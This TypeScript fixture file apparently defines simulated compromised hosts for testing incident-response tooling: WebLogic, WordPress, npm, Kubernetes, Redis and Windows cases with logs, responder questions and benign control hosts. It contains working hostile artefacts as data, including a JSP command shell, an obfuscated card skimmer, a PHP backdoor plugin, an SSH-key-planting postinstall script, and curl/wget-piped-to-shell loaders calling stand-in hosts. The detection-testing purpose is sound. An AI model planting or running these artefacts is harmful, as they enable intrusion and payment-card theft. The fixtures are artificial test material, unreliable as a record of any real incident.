/** Hosts broken into by ways of application servers, shops, packages, clusters, stores and event logs, each with what a responder asks. */
import {
  account,
  attacker,
  clean,
  combined,
  entered,
  type Host,
  inTimeline,
  later,
  outbound,
  shell,
  stays,
  syslog,
  visitors,
} from '../fourth-hosts/host.ts';

const PASSWD = 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n';

const WEBLOGIC = '203.0.113.151';
export const weblogic: Host = {
  name: 'WebLogic, deserialisation and a JSP shell',
  files: {
    'logs/access.log':
      visitors('2026-11-17T10:00:00Z', ['/console/login/LoginForm.jsp', '/pay/', '/pay/api/orders']) +
      combined(
        '2026-11-17T10:20:01Z',
        WEBLOGIC,
        'POST /wls-wsat/CoordinatorPortType',
        500,
        2210,
        'python-requests/2.31.0',
      ) +
      combined('2026-11-17T10:22:30Z', WEBLOGIC, 'GET /bea_wls_internal/ro8.jsp?pwd=k1&i=id', 200, 54, 'curl/8.5.0') +
      combined(
        '2026-11-17T10:23:10Z',
        WEBLOGIC,
        'GET /bea_wls_internal/ro8.jsp?pwd=k1&i=cat%20/etc/passwd',
        200,
        1920,
        'curl/8.5.0',
      ),
    'logs/server.log': [
      '####<Nov 17, 2026 10:00:00,101 AM UTC> <Notice> <WebLogicServer> <pay1> <AdminServer> <main> <<WLS Kernel>> <> <> <1794909600101> <BEA-000365> <Server state changed to RUNNING.>',
      '####<Nov 17, 2026 10:20:01,480 AM UTC> <Error> <WorkManager> <pay1> <AdminServer> <[ACTIVE] ExecuteThread: 5> <<WLS Kernel>> <> <> <1794910801480> <BEA-002911> <WorkManager WorkManagerImpl failed to schedule a request due to java.lang.ClassCastException: java.lang.ProcessBuilder cannot be cast>',
      '',
    ].join('\n'),
    'domains/pay/servers/AdminServer/tmp/_WL_internal/bea_wls_internal/9j4dqk/war/ro8.jsp':
      '<%if("k1".equals(request.getParameter("pwd"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter("i")).getInputStream();int a=-1;byte[] b=new byte[2048];out.print("<pre>");while((a=in.read(b))!=-1){out.println(new String(b));}out.print("</pre>");}%>\n',
    'var/spool/cron/oracle':
      '*/5 * * * * (curl -fsSL http://198.18.12.9/ldr.sh || wget -q -O- http://198.18.12.9/ldr.sh) | sh > /dev/null 2>&1\n',
    'etc/passwd': `${PASSWD}oracle:x:54321:54321::/home/oracle:/bin/bash\n`,
    'home/oracle/.ssh/authorized_keys': 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC1 oracle@ops\n',
    'ps.txt':
      'USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 1 0.0 0.1 1 1 ? Ss 08:00 0:01 /sbin/init\noracle 2211 3.0 40.1 1 1 ? Sl 08:00 9:01 /u01/jdk/bin/java -server weblogic.Server\noracle 9120 398 2.1 1 1 ? Sl 10:31 99:01 ./kthreadd -o 198.18.12.10:3333 -u 4AabcPool --donate-level 1\n',
  },
  questions: [
    attacker(WEBLOGIC),
    entered(/wls-wsat|deserial|ro8\.jsp/),
    ...shell('ro8.jsp', { key: 'k1', first: '2026-11-17T10:22:30Z' }),
    stays('spool/cron/oracle', 'fetches a script'),
    outbound('198.18.12.9'),
    outbound('198.18.12.10'),
    inTimeline(/ro8\.jsp/, '2026-11-17T10:22:30Z'),
  ],
};

const SHOP = '203.0.113.152';
const skimmer = `(function(){var h=String.fromCharCode(104,116,116,112,115,58,47,47,119,112,45,115,116,97,116,46,101,120,97,109,112,108,101,47,99);document.addEventListener("submit",function(e){var d={};e.target.querySelectorAll("input[name*=card],input[name*=cvc],input[autocomplete=cc-number]").forEach(function(i){d[i.name]=i.value});navigator.sendBeacon(h,btoa(JSON.stringify(d)))},true)})();`;
export const wooShop: Host = {
  name: 'WordPress, a plugin of the intruder and a skimmer',
  files: {
    'var/log/apache2/access.log':
      visitors('2026-11-16T20:00:00Z', ['/', '/shop/', '/checkout/', '/cart/']) +
      Array.from({ length: 44 }, (_, i) =>
        combined(
          later('2026-11-16T20:10:00Z', i * 2),
          SHOP,
          'POST /wp-login.php',
          200,
          4811,
          'Mozilla/5.0 (Windows NT 10.0)',
        ),
      ).join('') +
      combined('2026-11-16T20:11:30Z', SHOP, 'POST /wp-login.php', 302, 1104, 'Mozilla/5.0 (Windows NT 10.0)') +
      combined(
        '2026-11-16T20:12:00Z',
        SHOP,
        'GET /wp-admin/plugin-install.php?tab=upload',
        200,
        40_112,
        'Mozilla/5.0 (Windows NT 10.0)',
      ) +
      combined(
        '2026-11-16T20:12:40Z',
        SHOP,
        'POST /wp-admin/update.php?action=upload-plugin',
        200,
        20_112,
        'Mozilla/5.0 (Windows NT 10.0)',
      ) +
      combined(
        '2026-11-16T20:13:02Z',
        SHOP,
        'POST /wp-content/plugins/seo-lite-pro/seo-lite-pro.php',
        200,
        112,
        'Mozilla/5.0 (Windows NT 10.0)',
      ),
    'var/www/html/wp-content/plugins/seo-lite-pro/seo-lite-pro.php':
      "<?php\n/*\nPlugin Name: SEO Lite Pro\nVersion: 1.0\n*/\n$f = 'as'.'sert';\nif (isset($_POST['slp'])) { $h = create_function('', base64_decode($_POST['slp'])); $h(); exit; }\n",
    'var/www/html/wp-content/plugins/akismet/akismet.php':
      "<?php\n/*\nPlugin Name: Akismet\n*/\nif ( !function_exists( 'add_action' ) ) { echo 'Hi there!'; exit; }\ndefine( 'AKISMET_VERSION', '5.3' );\n",
    'var/www/html/wp-content/themes/store/js/checkout.js': `jQuery(function($){$(".qty").on("change",function(){$("form").trigger("update")})});\n${skimmer}\n`,
    'backup/shop.sql':
      "CREATE TABLE `wp_users` (\n  `ID` bigint(20) unsigned NOT NULL AUTO_INCREMENT,\n  `user_login` varchar(60) NOT NULL\n);\nINSERT INTO `wp_users` VALUES (1,'shopadmin'),(2,'wp_maint');\nINSERT INTO `wp_usermeta` VALUES (1,2,'wp_capabilities','a:1:{s:13:\"administrator\";b:1;}');\n",
    'var/www/html/wp-content/mu-plugins/cache.php':
      "<?php\nadd_action('pre_user_query', function($q){ global $wpdb; $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'wp_maint'\", $q->query_where); });\n",
    'etc/passwd': PASSWD,
  },
  questions: [
    attacker(SHOP),
    entered(/guess|wp-login/, '2026-11-16T20:11:30Z'),
    ...shell('seo-lite-pro.php', { key: 'slp', first: '2026-11-16T20:13:02Z' }),
    stays('checkout.js', 'card'),
    outbound('wp-stat.example'),
    account('wp_maint'),
    inTimeline(/upload-plugin|plugin/, '2026-11-16T20:12:40Z'),
  ],
};

const KEYED = '198.18.30.77';
export const npmKey: Host = {
  name: 'A package that plants a key',
  files: {
    'srv/app/node_modules/ts-fmt-utils/package.json': JSON.stringify({
      name: 'ts-fmt-utils',
      version: '2.1.9',
      scripts: { postinstall: 'node ./scripts/setup.js', test: 'jest' },
    }),
    'srv/app/node_modules/ts-fmt-utils/scripts/setup.js':
      "const fs = require('fs'), os = require('os'), path = require('path');\nconst d = path.join(os.homedir(), '.ssh');\nfs.mkdirSync(d, { recursive: true, mode: 0o700 });\nfs.appendFileSync(path.join(d, 'authorized_keys'), '\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKfreshkey build@ci\\n');\nrequire('https').get('https://fmt-telemetry.example/p?h=' + os.hostname());\n",
    'srv/app/node_modules/esbuild/package.json': JSON.stringify({
      name: 'esbuild',
      version: '0.25.0',
      scripts: { postinstall: 'node install.js' },
    }),
    'srv/app/node_modules/esbuild/install.js':
      "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\nfunction fetch(url) { return new Promise((resolve, reject) => https.get(url, resolve).on('error', reject)); }\nfs.writeFileSync(path.join(os.tmpdir(), 'esbuild.tgz'), '');\n",
    'home/deploy/.npm/_logs/2026-11-15T12_04_31_201Z-debug-0.log':
      '0 verbose cli /usr/bin/node /usr/bin/npm\n1 info using npm@10.8.2\n41 info run ts-fmt-utils@2.1.9 postinstall node_modules/ts-fmt-utils node ./scripts/setup.js\n44 info run ts-fmt-utils@2.1.9 postinstall { code: 0, signal: null }\n',
    'home/deploy/.ssh/authorized_keys':
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK1 ana@laptop\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKfreshkey build@ci\n',
    'var/log/auth.log': [
      ...Array.from(
        { length: 8 },
        (_, i) =>
          `${syslog(later('2026-11-14T08:00:00Z', i * 9000))} app1 sshd[${900 + i}]: Accepted publickey for deploy from 10.4.0.9 port ${50_000 + i} ssh2: ED25519 SHA256:aaaa`,
      ),
      `${syslog('2026-11-15T23:40:10Z')} app1 sshd[1490]: Accepted publickey for deploy from ${KEYED} port 41022 ssh2: ED25519 SHA256:bbbb`,
      `${syslog('2026-11-15T23:41:00Z')} app1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/find /etc -name x -exec /bin/sh ;`,
      '',
    ].join('\n'),
    'home/deploy/.config/systemd/user/dbus-broker-helper.service':
      '[Unit]\nDescription=D-Bus broker helper\n[Service]\nExecStart=/home/deploy/.local/share/.dbus/helper --quiet\nRestart=always\n[Install]\nWantedBy=default.target\n',
    'home/deploy/.bash_history':
      '#1794786100\ntar czf /tmp/.a.tgz /srv/app/.env /srv/app/keys\n#1794786130\nrsync -az /tmp/.a.tgz sync@198.18.30.80:/in/\n#1794786160\ncurl -sT /tmp/.a.tgz https://oshi.example/\n',
    'etc/passwd': `${PASSWD}deploy:x:1001:1001::/home/deploy:/bin/bash\n`,
  },
  questions: [
    attacker(KEYED),
    entered(/ts-fmt-utils|postinstall|package/i, '2026-11-15T12:04:31Z'),
    stays('scripts/setup.js', 'key'),
    stays('dbus-broker-helper.service', 'hidden'),
    outbound('fmt-telemetry.example'),
    outbound('198.18.30.80'),
    inTimeline(/rsync/, '2026-11-15T23:42:10Z'),
    inTimeline(/198\.18\.30\.77/, '2026-11-15T23:40:10Z'),
  ],
};

const CLUSTER = '198.18.40.5';
const audited = (
  iso: string,
  user: string,
  address: string,
  verb: string,
  resource: object,
  code: number,
  request?: object,
): string =>
  JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: request ? 'RequestResponse' : 'Metadata',
    auditID: `a-${iso}-${verb}`,
    stage: 'ResponseComplete',
    requestURI: '/api/v1',
    verb,
    user: { username: user, groups: [user === 'system:anonymous' ? 'system:unauthenticated' : 'system:authenticated'] },
    sourceIPs: [address],
    userAgent: user === 'system:anonymous' ? 'curl/8.5.0' : 'kubectl/v1.30.1 (linux/amd64)',
    objectRef: resource,
    responseStatus: { metadata: {}, code },
    ...(request ? { requestObject: request } : {}),
    requestReceivedTimestamp: iso.replace('Z', '.120000Z'),
    stageTimestamp: iso.replace('Z', '.130000Z'),
  });
const usual = Array.from({ length: 40 }, (_, i) =>
  audited(
    later('2026-11-18T01:00:00Z', i * 20),
    'system:serviceaccount:kube-system:deployment-controller',
    '10.96.0.2',
    'update',
    { resource: 'deployments', namespace: 'shop', name: 'pay' },
    200,
  ),
);
export const cluster: Host = {
  name: 'Kubernetes, an open interface',
  files: {
    'var/log/kubernetes/audit.log': [
      ...usual,
      audited(
        '2026-11-18T01:20:00Z',
        'system:anonymous',
        CLUSTER,
        'list',
        { resource: 'secrets', namespace: 'shop' },
        200,
      ),
      audited(
        '2026-11-18T01:22:00Z',
        'system:anonymous',
        CLUSTER,
        'create',
        { resource: 'clusterrolebindings', name: 'system-monitor', apiGroup: 'rbac.authorization.k8s.io' },
        201,
        {
          kind: 'ClusterRoleBinding',
          metadata: { name: 'system-monitor' },
          subjects: [{ kind: 'ServiceAccount', name: 'monitor', namespace: 'kube-system' }],
          roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
        },
      ),
      audited(
        '2026-11-18T01:24:00Z',
        'system:anonymous',
        CLUSTER,
        'create',
        { resource: 'daemonsets', namespace: 'kube-system', name: 'kube-controller', apiGroup: 'apps' },
        201,
        {
          kind: 'DaemonSet',
          metadata: { name: 'kube-controller', namespace: 'kube-system' },
          spec: {
            template: {
              spec: {
                hostPID: true,
                volumes: [{ name: 'h', hostPath: { path: '/' } }],
                containers: [
                  {
                    name: 'c',
                    image: 'alpine',
                    securityContext: { privileged: true },
                    command: ['sh', '-c', 'wget -qO- http://198.18.41.1/k.sh | sh'],
                    volumeMounts: [{ name: 'h', mountPath: '/host' }],
                  },
                ],
              },
            },
          },
        },
      ),
      audited(
        '2026-11-18T01:30:00Z',
        'system:serviceaccount:kube-system:monitor',
        CLUSTER,
        'create',
        { resource: 'pods', namespace: 'shop', name: 'pay-7d9', subresource: 'exec' },
        101,
      ),
      '',
    ].join('\n'),
    'etc/passwd': PASSWD,
  },
  questions: [
    attacker(CLUSTER),
    entered(/without a name/, '2026-11-18T01:20:00Z'),
    stays('audit.log', 'rights of an administrator'),
    stays('audit.log', 'kube-controller'),
    outbound('198.18.41.1'),
    inTimeline(/exec|pay-7d9/, '2026-11-18T01:30:00Z'),
    inTimeline(/secrets/, '2026-11-18T01:20:00Z'),
  ],
};

export const redisCron: Host = {
  name: 'Redis that wrote a crontab',
  files: {
    'var/spool/cron/crontabs/root':
      'REDIS0009\u0001\u0002\n\n\n*/2 * * * * root cd1 -fsSL http://198.18.50.3/b2f628/b.sh | sh\n\n\n*/3 * * * * curl -fsSL http://198.18.50.3/b2f628/b.sh | bash\n\n\n\u00ff',
    'var/log/redis/redis-server.log': [
      '812:M 19 Nov 2026 03:00:00.000 * Ready to accept connections',
      '812:M 19 Nov 2026 03:11:40.120 * DB saved on disk',
      '812:M 19 Nov 2026 03:11:41.500 # Failed opening the RDB file root (in server root dir /etc/cron.d) for saving: Permission denied',
      '',
    ].join('\n'),
    'redis-monitor.txt': [
      '1795057890.112001 [0 203.0.113.155:50112] "CONFIG" "SET" "dir" "/var/spool/cron/crontabs"',
      '1795057891.112001 [0 203.0.113.155:50112] "CONFIG" "SET" "dbfilename" "root"',
      '1795057899.112001 [0 203.0.113.155:50112] "SAVE"',
      '1795057900.112001 [0 10.0.0.4:40112] "GET" "session:1"',
      '',
    ].join('\n'),
    'etc/redis/redis.conf': 'bind 0.0.0.0\nprotected-mode no\ndir /var/lib/redis\n',
    'tmp/.w/config.json': JSON.stringify({
      pools: [
        {
          url: 'pool.minex.example:4444',
          user: '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
          pass: 'x',
        },
      ],
    }),
    'etc/passwd': `${PASSWD}redis:x:110:115::/var/lib/redis:/usr/sbin/nologin\n`,
    'root/.bash_history': 'systemctl status redis\nless /var/log/redis/redis-server.log\n',
  },
  questions: [
    attacker('203.0.113.155'),
    entered(/redis/i, '2026-11-19T03:11:30Z'),
    stays('crontabs/root', 'fetches a script'),
    outbound('198.18.50.3'),
    outbound('pool.minex.example'),
    outbound('44AFFq5kSiGBoZ4NMDwYtN18'),
    inTimeline(/redis|dbfilename|crontab/i, '2026-11-19T03:11:30Z'),
  ],
};

const RDP = '203.0.113.156';
const event = (n: number, iso: string, id: number, log: string, source: string, description: string): string =>
  `Event[${n}]:\r\n  Log Name: ${log}\r\n  Source: ${source}\r\n  Date: ${iso.replace('Z', '.1230000Z')}\r\n  Event ID: ${id}\r\n  Task: N/A\r\n  Level: Information\r\n  Opcode: Info\r\n  Keyword: Audit Success\r\n  User: N/A\r\n  User Name: N/A\r\n  Computer: WEB1\r\n  Description: \r\n${description}\r\n\r\n`;
const refused = (n: number, iso: string, user: string): string =>
  event(
    n,
    iso,
    4625,
    'Security',
    'Microsoft-Windows-Security-Auditing',
    `An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\tAccount Domain:\t\t-\r\n\tLogon ID:\t\t0x0\r\n\r\nLogon Type:\t\t\t3\r\n\r\nAccount For Which Logon Failed:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t${user}\r\n\tAccount Domain:\t\t\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\tWIN\r\n\tSource Network Address:\t${RDP}\r\n\tSource Port:\t\t0`,
  );
const users = ['administrator', 'admin', 'backup', 'sqlsvc', 'test', 'user1'];
export const eventText: Host = {
  name: 'Windows, events as wevtutil prints them',
  files: {
    'security.txt':
      Array.from({ length: 18 }, (_, i) => refused(i, later('2026-11-18T02:00:00Z', i * 3), users[i % 6]!)).join('') +
      event(
        18,
        '2026-11-18T02:01:10Z',
        4624,
        'Security',
        'Microsoft-Windows-Security-Auditing',
        `An account was successfully logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-5-18\r\n\tAccount Name:\t\tWEB1$\r\n\tAccount Domain:\t\tWORKGROUP\r\n\r\nLogon Type:\t\t\t10\r\n\r\nNew Logon:\r\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1004\r\n\tAccount Name:\t\tbackup\r\n\tAccount Domain:\t\tWEB1\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\tWEB1\r\n\tSource Network Address:\t${RDP}\r\n\tSource Port:\t\t0`,
      ) +
      event(
        19,
        '2026-11-18T02:05:00Z',
        4720,
        'Security',
        'Microsoft-Windows-Security-Auditing',
        'A user account was created.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1004\r\n\tAccount Name:\t\tbackup\r\n\r\nNew Account:\r\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1009\r\n\tAccount Name:\t\tiisupd$\r\n\tAccount Domain:\t\tWEB1',
      ) +
      event(
        20,
        '2026-11-18T02:20:00Z',
        1102,
        'Security',
        'Microsoft-Windows-Eventlog',
        'The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1-2-3-1004\r\n\tAccount Name:\tbackup\r\n\tDomain Name:\tWEB1',
      ),
    'system.txt': event(
      0,
      '2026-11-18T02:10:00Z',
      7045,
      'System',
      'Service Control Manager',
      'A service was installed in the system.\r\n\r\nService Name:  WinUpdSvc\r\nService File Name:  C:\\Users\\Public\\svc.exe -c 198.18.60.4:443\r\nService Type:  user mode service\r\nService Start Type:  auto start\r\nService Account:  LocalSystem',
    ),
    'inetpub/wwwroot/shop/Default.aspx': '<%@ Page Language="C#" %>\n<html><body>Shop</body></html>\n',
  },
  questions: [
    attacker(RDP),
    {
      ask: 'tries and dictionary',
      answered: ({ bruteForce }) =>
        bruteForce.some((b) => b.address === RDP && b.tries === 18 && b.dictionary.length === 6),
    },
    entered(/backup/, '2026-11-18T02:01:10Z'),
    account('iisupd$'),
    stays('system.txt', 'WinUpdSvc'),
    outbound('198.18.60.4'),
    inTimeline(/clear/i, '2026-11-18T02:20:00Z'),
  ],
};

const TESTERS = '203.0.113.200';
export const announced: Host = {
  name: 'a penetration test that was announced',
  files: {
    'var/log/nginx/access.log':
      visitors('2026-11-17T09:00:00Z', ['/', '/pay/', '/help']) +
      Array.from({ length: 60 }, (_, i) =>
        combined(
          later('2026-11-17T09:10:00Z', i),
          TESTERS,
          `GET /pay/?id=${i}%27%20or%20%271%27=%271`,
          403,
          146,
          'sqlmap/1.8',
        ),
      ).join('') +
      Array.from({ length: 40 }, (_, i) =>
        combined(later('2026-11-17T09:20:00Z', i), TESTERS, `GET /backup${i}.zip`, 404, 146, 'ffuf/2.1'),
      ).join(''),
    'ticket.txt': `Subject: CHG-991 penetration test of shop.example\nDate: Tue, 17 Nov 2026 08:00:00 +0000\n\nExample Security tests shop.example from ${TESTERS} between 09:00 and 12:00 UTC today.\n`,
    'etc/passwd': PASSWD,
  },
  questions: clean([TESTERS]),
};

const said = (iso: string, pid: number, words: string): string => `${syslog(iso)} db1 sshd[${pid}]: ${words}\n`;
export const mistyped: Host = {
  name: 'an administrator who mistypes a password',
  files: {
    'var/log/auth.log':
      Array.from({ length: 12 }, (_, i) =>
        said(
          later('2026-11-14T08:00:00Z', i * 20_000),
          100 + i,
          `Accepted password for oper from 10.8.0.14 port ${50_000 + i} ssh2`,
        ),
      ).join('') +
      Array.from({ length: 13 }, (_, i) =>
        said(
          later('2026-11-18T08:00:00Z', i * 25),
          300 + i,
          `Failed password for oper from 10.8.0.14 port ${51_000 + i} ssh2`,
        ),
      ).join('') +
      said('2026-11-18T08:06:10Z', 400, 'Accepted password for oper from 10.8.0.14 port 51999 ssh2'),
    'etc/passwd': `${PASSWD}oper:x:1000:1000::/home/oper:/bin/bash\n`,
    'home/oper/.bash_history': 'passwd\nsudo systemctl restart mysql\nsudo tail -f /var/log/mysql/error.log\n',
  },
  questions: clean(),
};

export const backups: Host = {
  name: 'backups that pack and copy',
  files: {
    'etc/cron.d/backup':
      'MAILTO=ops@shop.example\n15 2 * * * backup tar czf /var/backups/shop-$(date +\\%F).tgz /srv/shop /etc && scp -q -i /home/backup/.ssh/id_ed25519 /var/backups/shop-$(date +\\%F).tgz backup@vault.shop.example:/in/\n45 2 * * * postgres pg_dump -Fc shop | gpg -e -r ops > /var/backups/shop.dump.gpg\n',
    'home/backup/.bash_history':
      'rsync -a --delete /srv/shop/ backup@10.0.0.9:/in/\nrclone copy /var/backups remote:shop-backups\nmysqldump --single-transaction shop | gzip > /var/backups/shop.sql.gz\naws s3 cp /var/backups/shop.sql.gz s3://shop-backups/\n',
    'home/backup/.config/systemd/user/restic.service':
      '[Unit]\nDescription=restic\n[Service]\nExecStart=/home/backup/.local/bin/restic backup /srv/shop\n',
    'var/log/auth.log': `${syslog('2026-11-18T02:15:01Z')} app1 CRON[2211]: pam_unix(cron:session): session opened for user backup(uid=1003) by (uid=0)\n${syslog('2026-11-18T02:15:01Z')} app1 sudo:   backup : PWD=/ ; USER=root ; COMMAND=/usr/bin/tar czf /var/backups/etc.tgz /etc\n`,
    'etc/passwd': `${PASSWD}backup:x:1003:1003::/home/backup:/bin/bash\n`,
  },
  questions: clean(),
};

export const operated: Host = {
  name: 'a cluster and a shop that are deployed to',
  files: {
    'var/log/kubernetes/audit.log': [
      ...usual,
      audited('2026-11-18T01:21:00Z', 'system:anonymous', '10.0.0.30', 'get', { name: '/healthz' }, 200),
      audited(
        '2026-11-18T01:21:30Z',
        'system:anonymous',
        '198.51.100.77',
        'list',
        { resource: 'pods', namespace: 'shop' },
        403,
      ),
      audited(
        '2026-11-18T01:22:00Z',
        'ana@shop.example',
        '10.4.0.9',
        'create',
        { resource: 'pods', namespace: 'shop', name: 'pay-7d9', subresource: 'exec' },
        101,
      ),
      audited(
        '2026-11-18T01:23:00Z',
        'ana@shop.example',
        '10.4.0.9',
        'create',
        { resource: 'daemonsets', namespace: 'monitoring', name: 'node-exporter', apiGroup: 'apps' },
        201,
        {
          kind: 'DaemonSet',
          metadata: { name: 'node-exporter' },
          spec: {
            template: {
              spec: {
                hostPID: true,
                volumes: [{ name: 'root', hostPath: { path: '/' } }],
                containers: [
                  { name: 'e', image: 'quay.io/prometheus/node-exporter:v1.8.0', args: ['--path.rootfs=/host'] },
                ],
              },
            },
          },
        },
      ),
      audited(
        '2026-11-18T01:24:00Z',
        'ana@shop.example',
        '10.4.0.9',
        'create',
        { resource: 'clusterrolebindings', name: 'argocd', apiGroup: 'rbac.authorization.k8s.io' },
        201,
        {
          kind: 'ClusterRoleBinding',
          metadata: { name: 'argocd' },
          subjects: [{ kind: 'ServiceAccount', name: 'argocd', namespace: 'argocd' }],
          roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
        },
      ),
      '',
    ].join('\n'),
    'srv/app/package.json': JSON.stringify({
      name: 'shop',
      scripts: { prepare: 'husky', postinstall: 'node scripts/patch.js' },
    }),
    'srv/app/scripts/patch.js':
      "const fs = require('fs');\n// Keys of deployment: see docs/authorized_keys.md\nfs.appendFileSync('node_modules/.patched', 'yes\\n');\n",
    'var/www/html/wp-content/themes/store/js/checkout.js':
      'document.querySelectorAll("input[name=card_number]").forEach(function(i){i.addEventListener("input",function(){i.value=i.value.replace(/\\D/g,"")})});navigator.sendBeacon("/stat",JSON.stringify({page:"checkout"}));\n',
    'redis-monitor.txt':
      '1795057890.112001 [0 10.0.0.4:50112] "CONFIG" "SET" "maxmemory" "2gb"\n1795057891.112001 [0 10.0.0.4:50112] "CONFIG" "SET" "dir" "/var/lib/redis"\n1795057899.112001 [0 10.0.0.4:50112] "BGSAVE"\n',
    'security.txt': event(
      0,
      '2026-11-18T02:00:00Z',
      4624,
      'Security',
      'Microsoft-Windows-Security-Auditing',
      'An account was successfully logged on.\r\n\r\nLogon Type:\t\t\t5\r\n\r\nNew Logon:\r\n\tAccount Name:\t\tSYSTEM\r\n\r\nNetwork Information:\r\n\tSource Network Address:\t-',
    ),
    'etc/passwd': PASSWD,
  },
  questions: clean(['198.51.100.77']),
};
